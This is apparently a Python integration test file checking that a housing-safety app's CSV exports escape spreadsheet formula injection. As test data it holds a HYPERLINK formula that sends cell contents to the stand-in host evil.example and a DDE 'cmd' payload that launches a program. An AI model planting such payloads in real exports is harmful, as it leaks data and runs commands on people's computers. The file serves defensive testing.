"""CSV formula injection (issue 12): no cell of any CSV export starts with a character a
spreadsheet reads as a formula, whatever contractors' names and households' fields hold."""

from __future__ import annotations

import csv
import io

import pytest

from compliance.reporting import safe_cell
from registry.service import import_registry
from tests.factories import homes_csv, households_csv
from tests.integration.api.site import Site, build_site

pytestmark = pytest.mark.integration

TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def formulas(text: str) -> list[str]:
    """The cells that a spreadsheet would run."""
    return [
        cell for row in csv.reader(io.StringIO(text)) for cell in row if cell.startswith(TRIGGERS)
    ]


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Site:
    site = build_site(tmp_path_factory.mktemp("csv"))
    with site.context.sessions.begin() as session:
        import_registry(
            session,
            homes_text=homes_csv(homes=3, sensors_per_home=2),
            households_text=households_csv(
                ["H0001", "H0002", "H0003"],
                language_needs="@SUM(1+1)*cmd|' /C calc'!A0",
                age_band="+44",
                vulnerability="-2+3",
            ),
        )
    officer = site.client("officer", bearer=True)
    contractor = officer.post("/api/v1/contractors", json={"name": HOSTILE}).json()
    for case_id in (site.case_id, site.tenant_case_id):
        made = officer.post(
            "/api/v1/work-orders",
            json={
                "case_id": case_id,
                "kind": "safety",
                "contractor_id": contractor["id"],
                "priority": "urgent",
            },
        )
        assert made.status_code == 201, made.text
    return site


@pytest.mark.parametrize("by", ["contractor", "language_needs", "age_band"])
def test_the_equity_csv_of_the_api_and_the_page_is_inert(site: Site, by: str) -> None:
    api = site.client("analyst", bearer=True).get("/api/v1/equity/outcomes.csv", params={"by": by})
    page = site.client("analyst").get("/equity/outcomes.csv", params={"by": by})
    for answer in (api, page):
        assert answer.status_code == 200
        assert formulas(answer.text) == []
    cells = [cell for row in csv.reader(io.StringIO(api.text)) for cell in row]
    wanted = {"contractor": "'" + HOSTILE, "language_needs": "'@SUM", "age_band": "'+44"}[by]
    assert any(cell.startswith(wanted) for cell in cells), cells


def test_the_compliance_csv_is_inert(site: Site) -> None:
    api = site.client("compliance", bearer=True).get(
        "/api/v1/compliance/report.csv", params={"from": "2020-01-01", "to": "2030-01-01"}
    )
    assert api.status_code == 200
    assert formulas(api.text) == []


@pytest.mark.parametrize("trigger", TRIGGERS)
def test_every_trigger_is_neutralised(trigger: str) -> None:
    assert not safe_cell(f"{trigger}1+1").startswith(TRIGGERS)


def test_numbers_stay_numbers() -> None:
    assert safe_cell(-0.25) == "-0.25"
    assert safe_cell(3) == "3"


def test_a_demo_registry_csv_is_inert() -> None:
    from homesafe.runner import _csv

    text = _csv([{"a": "=1+1", "b": 2}], ("a", "b"))
    assert formulas(text) == []
